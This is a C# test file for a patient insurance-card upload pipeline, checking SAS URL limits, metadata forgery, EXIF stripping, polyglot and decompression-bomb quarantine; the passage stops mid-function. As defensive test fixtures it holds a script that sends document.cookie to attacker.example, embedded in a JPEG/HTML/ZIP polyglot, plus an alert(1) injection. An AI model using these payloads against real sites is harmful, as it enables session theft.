using System.Text;
using System.Text.RegularExpressions;
using System.Web;
using Azure;
using Azure.Storage.Blobs;
using Microsoft.DurableTask.Client;
using Microsoft.Extensions.Configuration;
using Microsoft.Extensions.DependencyInjection;
using PatientAccess.Domain.Common;
using PatientAccess.Domain.Ports;
using PatientAccess.Domain.Registrations;
using PatientAccess.Domain.WorkItems;
using PatientAccess.Integrations;
using PatientAccess.Integrations.Blob;
using PatientAccess.Workflow.Cards;
using PatientAccess.Workflow.Operations;

namespace PatientAccess.Workflow.Tests;

/// <summary>
/// Card intake end to end against the real Azurite (blobs), the Cosmos emulator (registrations), the in-process
/// Durable test host (the clearance) and Tesseract (the read that follows an accepted upload).
/// </summary>
public sealed class CardIntakeTests
{
    private static readonly string AzuriteConnection = TestServers.AzuriteConnection;

    private static readonly BlobServiceClient Blobs = new(AzuriteConnection);

    // Long enough by default that a registration whose upload was refused visibly stays "awaiting card".
    private static Task<ClearanceHost> StartAsync(TimeSpan? cardWait = null) =>
        ClearanceHost.StartWithCardIntakeAsync(cardWait ?? TimeSpan.FromMinutes(5));

    private static CardIntakeOperations Intake(ClearanceHost host) => host.Services.GetRequiredService<CardIntakeOperations>();

    private static async Task<RegistrationId> SubmitAsync(ClearanceHost host)
    {
        var form = Samples.Form();
        var result = await host.Registrations.SubmitAsync(host.Client, Guid.NewGuid().ToString(), form, Samples.Body(form), CancellationToken.None);
        await host.WaitForStageAsync(result.RegistrationId, ClearanceStage.AwaitingCard);
        return result.RegistrationId;
    }

    /// <summary>
    /// The one card read ends at a work item; the specialist sends the patient back for a new photo, and the clearance
    /// is given a few seconds to (wrongly) take an old upload for it.
    /// </summary>
    private static async Task SendBackForANewPhotoAsync(ClearanceHost host, RegistrationId id)
    {
        var attention = await host.WaitForStageAsync(id, ClearanceStage.NeedsAttention, TimeSpan.FromSeconds(90));
        Assert.Single(attention.Steps, s => s.Step.StartsWith("card-received-", StringComparison.Ordinal));
        await host.Worklist.ResolveAsync(host.Client, id, new Resolution(null, ResolutionAction.RetryPatientStep, null), "specialist-7", CancellationToken.None);
        await host.WaitForAsync(id, s => s.Steps.Any(x => x.Step == "await-card-2"), "await-card-2");
        await Task.Delay(TimeSpan.FromSeconds(4));
    }

    private static BlobClient CardBlob(string name) => Blobs.GetBlobContainerClient(BlobCardImageStore.Container).GetBlobClient(name);

    private static BlobClient QuarantinedBlob(string name) => Blobs.GetBlobContainerClient(BlobCardImageStore.QuarantineContainer).GetBlobClient(name);

    private static BlobClient AcceptedBlob(string name) => Blobs.GetBlobContainerClient(BlobCardImageStore.AcceptedContainer).GetBlobClient(name);

    private static async Task<CardUploadTarget> UrlAsync(ClearanceHost host, RegistrationId id, string contentType = "image/jpeg", string side = "front") =>
        await Intake(host).CreateUploadUrlAsync(host.Client, id, side, contentType, CancellationToken.None);

    /// <summary>The phone's PUT through the SAS URL, with whatever headers the uploader chooses to add.</summary>
    private static async Task<HttpResponseMessage> PutAsync(Uri url, byte[] content, string contentType = "image/jpeg", IReadOnlyDictionary<string, string>? headers = null)
    {
        using var phone = new HttpClient();
        using var put = new HttpRequestMessage(HttpMethod.Put, url) { Content = new ByteArrayContent(content) };
        put.Content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue(contentType);
        put.Headers.Add("x-ms-blob-type", "BlockBlob");
        foreach (var (name, value) in headers ?? new Dictionary<string, string>()) put.Headers.Add(name, value);
        return await phone.SendAsync(put);
    }

    private static async Task<string> UploadThroughUrlAsync(ClearanceHost host, RegistrationId id, byte[] content, string contentType = "image/jpeg", string side = "front")
    {
        var target = await UrlAsync(host, id, contentType, side);
        using var response = await PutAsync(target.UploadUrl, content, contentType);
        Assert.Equal(System.Net.HttpStatusCode.Created, response.StatusCode);
        return target.BlobName;
    }

    private static async Task FinishAsync(ClearanceHost host, RegistrationId id) =>
        await host.Services.GetRequiredService<RegistrationUpdater>().UpdateAsync(id,
            r => r.Advance(ClearanceStage.EligibilityVerified, "eligibility-1", "active coverage", null, DateTimeOffset.UtcNow), "test: eligibility verified", CancellationToken.None);

    // ---------------------------------------------------------------- upload URL

    [Fact]
    public async Task CreateUploadUrl_KnownRegistration_CreateOnlyFor15MinutesOnAServerChosenName()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var before = DateTimeOffset.UtcNow;

        var target = await UrlAsync(host, id);

        Assert.Matches(new Regex($"^{id.Value}/front-[0-9a-f]{{32}}\\.jpg$"), target.BlobName);
        Assert.NotEqual(target.BlobName, (await UrlAsync(host, id)).BlobName);
        Assert.EndsWith($"/{BlobCardImageStore.Container}/{target.BlobName}", target.UploadUrl.AbsolutePath, StringComparison.Ordinal);
        var query = HttpUtility.ParseQueryString(target.UploadUrl.Query);
        var expiresOn = DateTimeOffset.Parse(query["se"]!, System.Globalization.CultureInfo.InvariantCulture);
        Assert.InRange(expiresOn - before, TimeSpan.FromMinutes(14), TimeSpan.FromMinutes(15) + TimeSpan.FromSeconds(30));
        Assert.InRange(target.ExpiresAt - before, TimeSpan.FromMinutes(14), TimeSpan.FromMinutes(15) + TimeSpan.FromSeconds(30));
        Assert.Equal("c", query["sp"]); // create only: no read, write (overwrite), delete, tags, list

        var withSas = new BlobClient(target.UploadUrl);
        using (var created = await PutAsync(target.UploadUrl, SampleCard()))
        {
            Assert.Equal(System.Net.HttpStatusCode.Created, created.StatusCode);
        }
        Assert.True((await CardBlob(target.BlobName).ExistsAsync()).Value, "the PUT through the URL created the blob");

        var read = await Assert.ThrowsAsync<RequestFailedException>(() => withSas.DownloadContentAsync());
        Assert.Equal(403, read.Status);
        var properties = await Assert.ThrowsAsync<RequestFailedException>(() => withSas.GetPropertiesAsync());
        Assert.Equal(403, properties.Status);
        var delete = await Assert.ThrowsAsync<RequestFailedException>(() => withSas.DeleteAsync());
        Assert.Equal(403, delete.Status);
        var metadata = await Assert.ThrowsAsync<RequestFailedException>(() => withSas.SetMetadataAsync(new Dictionary<string, string> { ["processed"] = "true" }));
        Assert.Equal(403, metadata.Status);
        var block = await Assert.ThrowsAsync<RequestFailedException>(() =>
            new Azure.Storage.Blobs.Specialized.BlockBlobClient(target.UploadUrl).StageBlockAsync(Convert.ToBase64String(new byte[16]), new MemoryStream(SampleCard())));
        Assert.Equal(403, block.Status);
        // The URL is for this blob only: a sibling name is refused.
        var sibling = new BlobUriBuilder(target.UploadUrl) { BlobName = $"{id.Value}/front-{Guid.NewGuid():N}.jpg" }.ToUri();
        var other = await Assert.ThrowsAsync<RequestFailedException>(() => new BlobClient(sibling).UploadAsync(BinaryData.FromBytes(SampleCard())));
        Assert.Equal(403, other.Status);
    }

    [Fact]
    public async Task CreateUploadUrl_UnknownRegistration_NotFound()
    {
        await using var host = await StartAsync();
        await Assert.ThrowsAsync<NotFoundException>(() => UrlAsync(host, RegistrationId.New(Guid.NewGuid())));
    }

    [Theory]
    [InlineData("side", "top", "image/jpeg")]
    [InlineData("side", null, "image/png")]
    [InlineData("contentType", "back", "image/gif")]
    [InlineData("contentType", "back", "image/heic")]
    [InlineData("contentType", "back", "application/pdf")]
    [InlineData("contentType", "front", null)]
    public async Task CreateUploadUrl_BadSideOrContentType_ValidationExceptionNamesTheField(string field, string? side, string? contentType)
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var e = await Assert.ThrowsAsync<ValidationException>(() => Intake(host).CreateUploadUrlAsync(host.Client, id, side, contentType, CancellationToken.None));
        var error = Assert.Single(e.Errors);
        Assert.Equal(field, error.Field);
    }

    [Fact]
    public async Task CreateUploadUrl_EligibilityVerified_ClearanceFinished()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        await FinishAsync(host, id);

        var refused = await Assert.ThrowsAsync<ClearanceFinishedException>(() => UrlAsync(host, id));

        Assert.Equal(nameof(ClearanceStage.EligibilityVerified), refused.State);
    }

    [Fact]
    public async Task CreateUploadUrl_ClearanceTerminated_ClearanceFinished()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        await host.Client.TerminateInstanceAsync(id.ClearanceInstanceId);
        await host.WaitForCompletionAsync(id);

        var refused = await Assert.ThrowsAsync<ClearanceFinishedException>(() => UrlAsync(host, id));

        Assert.Equal(nameof(OrchestrationRuntimeStatus.Terminated), refused.State);
    }

    // ---------------------------------------------------------------- accepted uploads

    [Fact]
    public async Task HandleUploaded_SampleCardWithGpsExif_AcceptedReencodedRecordedAndTheClearanceMovesOn()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var withGps = WithExifGps(SampleCard());
        Assert.True(Contains(withGps, "GPS"u8), "the test image carries GPS EXIF");
        var blobName = await UploadThroughUrlAsync(host, id, withGps);
        var uploadETag = (await CardBlob(blobName).GetPropertiesAsync()).Value.ETag.ToString();

        var result = await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None);

        Assert.Equal(CardIntakeResult.Accepted, result);
        var registration = (await host.Store.GetAsync(id, CancellationToken.None)).Value;
        var record = Assert.Single(registration.CardImages);
        Assert.Equal(blobName, record.BlobName);
        Assert.Equal("front", record.Side);
        Assert.Equal("Jpeg", record.Format);
        Assert.Equal(uploadETag, record.UploadETag);
        Assert.True(record.Width >= 50 && record.Height >= 50, $"{record.Width}x{record.Height}");

        var stored = await AcceptedBlob(blobName).DownloadContentAsync();
        var bytes = stored.Value.Content.ToArray();
        Assert.False(Contains(bytes, "Exif\0\0"u8), "EXIF left in the stored copy");
        Assert.False(Contains(bytes, "GPS"u8), "GPS left in the stored copy");
        Assert.Equal([0xFF, 0xD8], bytes[..2]);
        Assert.Equal([0xFF, 0xD9], bytes[^2..]);
        Assert.Equal("image/jpeg", stored.Value.Details.ContentType);
        Assert.Empty(stored.Value.Details.Metadata);
        Assert.False((await CardBlob(blobName).ExistsAsync()).Value, "the handled upload is still in the inbox");

        var moved = await host.WaitForAsync(id, s => s.Stage is not (ClearanceStage.AwaitingCard or ClearanceStage.CardReceived), "a stage past the card upload", TimeSpan.FromSeconds(90));
        Assert.Contains(moved.Steps, s => s.Step == "card-received-1");
        Assert.DoesNotContain(moved.Steps, s => s.Step.StartsWith("card-deadline", StringComparison.Ordinal));
    }

    [Fact]
    public async Task HandleUploaded_UploaderForgesProcessedMetadataTagsAndContentType_StillCheckedAndQuarantined()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var target = await UrlAsync(host, id);
        using (var forged = await PutAsync(target.UploadUrl, Encoding.UTF8.GetBytes("<html><script>alert(1)</script></html>"), "image/jpeg",
                   new Dictionary<string, string> { ["x-ms-meta-processed"] = "true", ["x-ms-meta-reason"] = "fine" }))
        {
            Assert.Equal(System.Net.HttpStatusCode.Created, forged.StatusCode);
        }
        Assert.Equal("true", (await CardBlob(target.BlobName).GetPropertiesAsync()).Value.Metadata["processed"]);

        // The LocalHost's watcher lists it although it claims to be processed, and the intake checks it.
        var listed = new List<string>();
        await foreach (var name in host.Services.GetRequiredService<ICardImageStore>().ListUploadsAsync(CancellationToken.None)) listed.Add(name);
        Assert.Contains(target.BlobName, listed);
        var result = await Intake(host).HandleUploadedAsync(host.Client, target.BlobName, CancellationToken.None);

        Assert.Equal(CardIntakeResult.Quarantined, result);
        var quarantined = (await QuarantinedBlob(target.BlobName).GetPropertiesAsync()).Value;
        Assert.Equal("UnsupportedFormat", quarantined.Metadata["reason"]);
        Assert.False(quarantined.Metadata.ContainsKey("processed"), "the uploader's metadata went along into quarantine");
        Assert.Empty((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);
    }

    [Fact]
    public async Task HandleUploaded_GoodPhotoWithForgedMetadataAndContentType_StoredCopyHasOurContentTypeAndNoMetadata()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var target = await UrlAsync(host, id);
        using (var forged = await PutAsync(target.UploadUrl, SampleCard(), "text/html", new Dictionary<string, string> { ["x-ms-meta-processed"] = "true" }))
        {
            Assert.Equal(System.Net.HttpStatusCode.Created, forged.StatusCode);
        }

        Assert.Equal(CardIntakeResult.Accepted, await Intake(host).HandleUploadedAsync(host.Client, target.BlobName, CancellationToken.None));

        var stored = (await AcceptedBlob(target.BlobName).GetPropertiesAsync()).Value;
        Assert.Equal("image/jpeg", stored.ContentType);
        Assert.Empty(stored.Metadata);
    }

    [Fact]
    public async Task HandleUploaded_SecondPutThroughTheSameUrl_IgnoredAndTheFirstImageKept()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var target = await UrlAsync(host, id);
        using (var first = await PutAsync(target.UploadUrl, SampleCard()))
        {
            Assert.Equal(System.Net.HttpStatusCode.Created, first.StatusCode);
        }
        Assert.Equal(CardIntakeResult.Accepted, await Intake(host).HandleUploadedAsync(host.Client, target.BlobName, CancellationToken.None));
        var kept = (await AcceptedBlob(target.BlobName).DownloadContentAsync()).Value.Content.ToArray();

        // The same URL, another photo. Azure refuses a create-only PUT over an existing blob; Azurite (and Azure once the
        // handled upload is gone from the inbox) takes it: then the intake must not read it.
        using var second = await PutAsync(target.UploadUrl, OtherCard());
        var result = await Intake(host).HandleUploadedAsync(host.Client, target.BlobName, CancellationToken.None);

        if (second.IsSuccessStatusCode)
        {
            Assert.Equal(CardIntakeResult.Quarantined, result);
            Assert.Equal(CardIntakeOperations.DuplicateUpload, (await QuarantinedBlob(target.BlobName).GetPropertiesAsync()).Value.Metadata["reason"]);
        }
        else
        {
            Assert.Equal(CardIntakeResult.AlreadyProcessed, result);
        }
        Assert.Equal(kept, (await AcceptedBlob(target.BlobName).DownloadContentAsync()).Value.Content.ToArray());
        Assert.Single((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);
        await Task.Delay(TimeSpan.FromSeconds(2));
        var status = await host.Registrations.GetStatusAsync(id, CancellationToken.None);
        Assert.Single(status.Steps, s => s.Step.StartsWith("card-received-", StringComparison.Ordinal));
    }

    [Fact]
    public async Task HandleUploaded_JpegWithHtmlAndZipAppended_StoredCopyEndsWithTheImage()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var hostile = AppendedPayload(SampleCard());
        var blobName = await UploadThroughUrlAsync(host, id, hostile);

        Assert.Equal(CardIntakeResult.Accepted, await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None));

        var stored = (await AcceptedBlob(blobName).DownloadContentAsync()).Value;
        var bytes = stored.Content.ToArray();
        Assert.False(Contains(bytes, "<html"u8), "the appended HTML survived");
        Assert.False(Contains(bytes, "PK\u0003\u0004"u8), "the appended ZIP survived");
        Assert.False(Contains(bytes, "payload.txt"u8), "the appended ZIP's file name survived");
        Assert.Equal([0xFF, 0xD9], bytes[^2..]);
        Assert.Equal(1, CountEndMarkers(bytes)); // one end-of-image marker: the last two bytes
        Assert.Equal("image/jpeg", stored.Details.ContentType);
        var record = Assert.Single((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);
        using var decoded = SkiaSharp.SKBitmap.Decode(bytes);
        Assert.Equal((record.Width, record.Height), (decoded.Width, decoded.Height));
    }

    [Fact]
    public async Task HandleUploaded_DecompressionBombPng_QuarantinedFromItsHeader()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var bomb = await File.ReadAllBytesAsync(Path.Combine(RepoRoot(), "tests", "Cards.Tests", "Hostile", "png-6300x6300-rgba16-zeros.png"));
        Assert.InRange(bomb.Length, 300_000, 320_000);
        var blobName = await UploadThroughUrlAsync(host, id, bomb, "image/png");

        Assert.Equal(CardIntakeResult.Quarantined, await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None));

        Assert.Equal(nameof(Domain.Cards.CardRejectionCode.DecompressionBomb), (await QuarantinedBlob(blobName).GetPropertiesAsync()).Value.Metadata["reason"]);
        Assert.False((await AcceptedBlob(blobName).ExistsAsync()).Value);
        var registration = (await host.Store.GetAsync(id, CancellationToken.None)).Value;
        Assert.Empty(registration.CardImages);
        Assert.Equal(PatientTask.RetakeCard, registration.FollowUp?.Task);
    }

    [Fact]
    public async Task HandleUploaded_UploadArrivesAfterTheClearanceFinished_QuarantinedUnread()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var target = await UrlAsync(host, id);
        await FinishAsync(host, id);
        using (var late = await PutAsync(target.UploadUrl, SampleCard()))
        {
            Assert.Equal(System.Net.HttpStatusCode.Created, late.StatusCode);
        }

        Assert.Equal(CardIntakeResult.Quarantined, await Intake(host).HandleUploadedAsync(host.Client, target.BlobName, CancellationToken.None));

        Assert.Equal(CardIntakeOperations.ClearanceFinished, (await QuarantinedBlob(target.BlobName).GetPropertiesAsync()).Value.Metadata["reason"]);
        Assert.Empty((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);
    }

    [Fact]
    public async Task HandleUploaded_Redelivered_SecondIsAlreadyProcessedWithOneRecordAndOneEvent()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var blobName = await UploadThroughUrlAsync(host, id, SampleCard());

        Assert.Equal(CardIntakeResult.Accepted, await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None));
        Assert.Equal(CardIntakeResult.AlreadyProcessed, await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None));

        var registration = (await host.Store.GetAsync(id, CancellationToken.None)).Value;
        Assert.Single(registration.CardImages);

        // The patient typed another member id than the card's: the read ends at a work item. Send the patient
        // back to the upload step: a second CardUploaded event (from the redelivery) would be consumed at once.
        await SendBackForANewPhotoAsync(host, id);

        var status = await host.Registrations.GetStatusAsync(id, CancellationToken.None);
        Assert.Equal(ClearanceStage.AwaitingCard, status.Stage);
        Assert.Single(status.Steps, s => s.Step.StartsWith("card-received-", StringComparison.Ordinal));
        Assert.Single((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);
    }

    [Fact]
    public async Task HandleUploaded_InboxFailsAfterTheEventThenRedelivered_TheClearanceGetsOneCard()
    {
        var flaky = new FailOnceOnDelete();
        await using var host = await StartWithStoreAsync(flaky);
        var id = await SubmitAsync(host);
        var blobName = await UploadThroughUrlAsync(host, id, SampleCard());

        // The first delivery stores our copy, records the image and tells the clearance, then Blob Storage fails (503)
        // removing the upload: the trigger fails and the event is delivered again.
        await Assert.ThrowsAsync<TransientDependencyException>(() => Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None));
        Assert.True((await CardBlob(blobName).ExistsAsync()).Value);
        Assert.Equal(CardIntakeResult.AlreadyProcessed, await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None));
        Assert.False((await CardBlob(blobName).ExistsAsync()).Value);
        Assert.Single((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);

        await SendBackForANewPhotoAsync(host, id);

        // The patient was asked for a new photo: the same old upload must not be taken for it.
        var status = await host.Registrations.GetStatusAsync(id, CancellationToken.None);
        Assert.Equal(ClearanceStage.AwaitingCard, status.Stage);
        Assert.Single(status.Steps, s => s.Step.StartsWith("card-received-", StringComparison.Ordinal));
    }

    [Fact]
    public async Task HandleUploaded_QuarantinedBlobRedelivered_ChangesNothingAndDoesNotThrow()
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var blobName = await UploadThroughUrlAsync(host, id, "not a photo"u8.ToArray());
        Assert.Equal(CardIntakeResult.Quarantined, await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None));

        var again = await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None);

        Assert.NotEqual(CardIntakeResult.Accepted, again);
        Assert.Equal("UnsupportedFormat", (await QuarantinedBlob(blobName).GetPropertiesAsync()).Value.Metadata["reason"]);
        Assert.Empty((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);
    }

    private static async Task<ClearanceHost> StartWithStoreAsync(DecoratedStore decorator) =>
        await ClearanceHost.StartAsync(configure: services =>
        {
            var configuration = new ConfigurationBuilder().AddInMemoryCollection(new Dictionary<string, string?>
            {
                ["CardStorage:connectionString"] = AzuriteConnection,
            }).Build();
            services.AddCardIntake(configuration);
            var real = services.Last(d => d.ServiceType == typeof(ICardImageStore));
            services.Remove(real);
            services.AddSingleton<ICardImageStore>(sp => decorator.Wrap((ICardImageStore)real.ImplementationFactory!(sp)));
            services.PostConfigure<ClearanceOptions>(o => o.CardWaitTimeout = TimeSpan.FromMinutes(5));
        });

    /// <summary>The real Blob store with one operation made to fail like Blob Storage under load.</summary>
    private abstract class DecoratedStore : ICardImageStore
    {
        protected ICardImageStore Inner { get; private set; } = null!;

        public DecoratedStore Wrap(ICardImageStore inner)
        {
            Inner = inner;
            return this;
        }

        public Task<Uri> CreateUploadUrlAsync(string blobName, TimeSpan lifetime, CancellationToken cancellationToken) => Inner.CreateUploadUrlAsync(blobName, lifetime, cancellationToken);
        public Task<CardUpload> ReadUploadAsync(string blobName, long maxBytes, CancellationToken cancellationToken) => Inner.ReadUploadAsync(blobName, maxBytes, cancellationToken);
        public virtual Task DeleteUploadAsync(string blobName, string etag, CancellationToken cancellationToken) => Inner.DeleteUploadAsync(blobName, etag, cancellationToken);
        public Task QuarantineAsync(string blobName, string reasonCode, CancellationToken cancellationToken) => Inner.QuarantineAsync(blobName, reasonCode, cancellationToken);
        public IAsyncEnumerable<string> ListUploadsAsync(CancellationToken cancellationToken) => Inner.ListUploadsAsync(cancellationToken);
        public Task StoreAcceptedAsync(string blobName, byte[] content, string contentType, CancellationToken cancellationToken) => Inner.StoreAcceptedAsync(blobName, content, contentType, cancellationToken);
        public Task<byte[]?> ReadAcceptedAsync(string blobName, long maxBytes, CancellationToken cancellationToken) => Inner.ReadAcceptedAsync(blobName, maxBytes, cancellationToken);
        public Task<Uri> CreateReadUrlAsync(string blobName, TimeSpan lifetime, CancellationToken cancellationToken) => Inner.CreateReadUrlAsync(blobName, lifetime, cancellationToken);
    }

    private sealed class FailOnceOnDelete : DecoratedStore
    {
        private int _calls;

        public override Task DeleteUploadAsync(string blobName, string etag, CancellationToken cancellationToken) =>
            Interlocked.Increment(ref _calls) == 1
                ? throw new TransientDependencyException("Blob Storage", "status 503", null)
                : base.DeleteUploadAsync(blobName, etag, cancellationToken);
    }

    // ---------------------------------------------------------------- refused uploads

    public static TheoryData<string, string> BadFiles => new()
    {
        { "text", nameof(Domain.Cards.CardRejectionCode.UnsupportedFormat) },
        { "truncated-jpeg", nameof(Domain.Cards.CardRejectionCode.Corrupt) },
        { "jpeg-cut-in-the-scan", nameof(Domain.Cards.CardRejectionCode.Corrupt) },
        { "tiny-png", nameof(Domain.Cards.CardRejectionCode.TooSmall) },
        { "eleven-mb", nameof(Domain.Cards.CardRejectionCode.TooLarge) },
        { "pdf-named-jpg", nameof(Domain.Cards.CardRejectionCode.UnsupportedFormat) },
    };

    [Theory]
    [MemberData(nameof(BadFiles))]
    public async Task HandleUploaded_BadFile_QuarantinedWithTheReasonAndTheRegistrationStillAwaitsACard(string kind, string reason)
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var (content, contentType) = BadFile(kind);
        var blobName = await UploadThroughUrlAsync(host, id, content, contentType);

        var result = await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None);

        Assert.Equal(CardIntakeResult.Quarantined, result);
        Assert.False((await CardBlob(blobName).ExistsAsync()).Value, "the refused file is still in the card container");
        var quarantined = await QuarantinedBlob(blobName).GetPropertiesAsync();
        Assert.Equal(reason, quarantined.Value.Metadata["reason"]);
        Assert.Equal(content.Length, quarantined.Value.ContentLength);
        await Task.Delay(TimeSpan.FromSeconds(2));
        var status = await host.Registrations.GetStatusAsync(id, CancellationToken.None);
        Assert.Equal(ClearanceStage.AwaitingCard, status.Stage);
        Assert.Equal("InsuranceCard", status.Awaiting);
        Assert.DoesNotContain(status.Steps, s => s.Step.StartsWith("card-received-", StringComparison.Ordinal));
        Assert.Empty((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);
    }

    [Theory]
    [InlineData("notes.txt")]
    [InlineData("not-a-registration/front-0123456789abcdef0123456789abcdef.jpg")]
    [InlineData("{0}/selfie-0123456789abcdef0123456789abcdef.jpg")]
    [InlineData("{0}/front-0123456789abcdef0123456789abcdef.gif")]
    [InlineData("{0}/front-0123456789abcdef0123456789abcdef.pdf")]
    public async Task HandleUploaded_UnexpectedName_QuarantinedAsUnexpectedName(string pattern)
    {
        await using var host = await StartAsync();
        var id = await SubmitAsync(host);
        var blobName = string.Format(System.Globalization.CultureInfo.InvariantCulture, pattern, id.Value);
        if (pattern == "notes.txt") blobName = $"notes-{Guid.NewGuid():N}.txt";
        await Blobs.GetBlobContainerClient(BlobCardImageStore.Container).CreateIfNotExistsAsync();
        await CardBlob(blobName).UploadAsync(BinaryData.FromBytes(SampleCard()), overwrite: true);

        var result = await Intake(host).HandleUploadedAsync(host.Client, blobName, CancellationToken.None);

        Assert.Equal(CardIntakeResult.Quarantined, result);
        Assert.False((await CardBlob(blobName).ExistsAsync()).Value);
        Assert.Equal("unexpected-name", (await QuarantinedBlob(blobName).GetPropertiesAsync()).Value.Metadata["reason"]);
        Assert.Empty((await host.Store.GetAsync(id, CancellationToken.None)).Value.CardImages);
    }

    // ---------------------------------------------------------------- files

    private static string RepoRoot() => TestServers.RepoRoot();

    private static byte[] SampleCard() =>
        File.ReadAllBytes(Path.Combine(RepoRoot(), "samples", "cards", "card-1000-commercial-ppo-clean.jpg"));

    private static byte[] OtherCard() =>
        File.ReadAllBytes(Path.Combine(RepoRoot(), "samples", "cards", "card-1004-commercial-norx-clean.jpg"));

    /// <summary>A polyglot: the JPEG, then an HTML page and a ZIP archive (local file header, data, central directory, end record).</summary>
    private static byte[] AppendedPayload(byte[] jpeg)
    {
        var html = Encoding.ASCII.GetBytes("<html><body><script>fetch('https://attacker.example/'+document.cookie)</script></body></html>");
        var zipName = "payload.txt"u8.ToArray();
        var data = "hello from inside the photo"u8.ToArray();
        var zip = new List<byte>();
        zip.AddRange("PK\u0003\u0004"u8.ToArray());
        zip.AddRange(new byte[] { 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0 }); // version, flags, stored, time, date, crc (unchecked here)
        zip.AddRange(BitConverter.GetBytes(data.Length));
        zip.AddRange(BitConverter.GetBytes(data.Length));
        zip.AddRange(BitConverter.GetBytes((short)zipName.Length));
        zip.AddRange(new byte[] { 0, 0 });
        zip.AddRange(zipName);
        zip.AddRange(data);
        zip.AddRange("PK\u0005\u0006"u8.ToArray());
        zip.AddRange(new byte[18]);
        return [.. jpeg, .. html, .. zip];
    }

    private static int CountEndMarkers(byte[] bytes)
    {
        var count = 0;
        for (var i = 0; i + 1 < bytes.Length; i++) if (bytes[i] == 0xFF && bytes[i + 1] == 0xD9) count++;
        return count;
    }

    private const int ExifSegmentLength = 4 + 6 + 8 + 2 + 12 + 4 + 32;

    /// <summary>The JPEG with an EXIF APP1 segment (a TIFF header, one GPS IFD pointer and a GPS tag text) right after SOI.</summary>
    private static byte[] WithExifGps(byte[] jpeg)
    {
        var payload = new List<byte>();
        payload.AddRange("Exif\0\0"u8.ToArray());
        payload.AddRange(new byte[] { (byte)'M', (byte)'M', 0, 42, 0, 0, 0, 8 }); // TIFF header, IFD0 at 8
        payload.AddRange(new byte[] { 0, 1 }); // one entry
        payload.AddRange(new byte[] { 0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 26 }); // GPSInfo IFD pointer
        payload.AddRange(new byte[] { 0, 0, 0, 0 }); // no next IFD
        payload.AddRange(Encoding.ASCII.GetBytes("GPS 41.8781N 87.6298W 2026-11-2"));
        payload.Add(0);
        var segment = new List<byte> { 0xFF, 0xE1, (byte)((payload.Count + 2) >> 8), (byte)((payload.Count + 2) & 0xFF) };
        segment.AddRange(payload);
        Assert.Equal(ExifSegmentLength, segment.Count);
        return [.. jpeg.AsSpan(0, 2), .. segment, .. jpeg.AsSpan(2)];
    }

    private static (byte[] Content, string ContentType) BadFile(string kind) => kind switch
    {
        "text" => (Encoding.UTF8.GetBytes("this is not a photo of an insurance card\n"), "image/jpeg"),
        "truncated-jpeg" => (SampleCard()[..20], "image/jpeg"),
        "jpeg-cut-in-the-scan" => (SampleCard()[..(SampleCard().Length / 2)], "image/jpeg"),
        "tiny-png" => (Png(20, 20), "image/png"),
        "pdf-named-jpg" => ("%PDF-1.7\n1 0 obj << /Type /Page /MediaBox [0 0 612 792] >> endobj\n%%EOF\n"u8.ToArray(), "image/jpeg"),
        "eleven-mb" => (ElevenMegabyteJpeg(), "image/jpeg"),
        _ => throw new ArgumentOutOfRangeException(nameof(kind)),
    };

    private static byte[] ElevenMegabyteJpeg()
    {
        var card = SampleCard();
        var content = new byte[11 * 1024 * 1024];
        card.CopyTo(content, 0);
        return content;
    }

    /// <summary>A valid grayscale PNG of the given size (IHDR, one IDAT, IEND with correct CRCs).</summary>
    private static byte[] Png(int width, int height)
    {
        using var output = new MemoryStream();
        output.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        var ihdr = new byte[13];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(ihdr, width);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(ihdr.AsSpan(4), height);
        ihdr[8] = 8; // bit depth, colour type 0 (grayscale)
        Chunk(output, "IHDR", ihdr);
        var raw = new byte[height * (width + 1)];
        using var compressed = new MemoryStream();
        using (var z = new System.IO.Compression.ZLibStream(compressed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
        {
            z.Write(raw);
        }
        Chunk(output, "IDAT", compressed.ToArray());
        Chunk(output, "IEND", []);
        return output.ToArray();
    }

    private static void Chunk(Stream output, string type, byte[] data)
    {
        var header = new byte[8];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(header, data.Length);
        Encoding.ASCII.GetBytes(type, header.AsSpan(4));
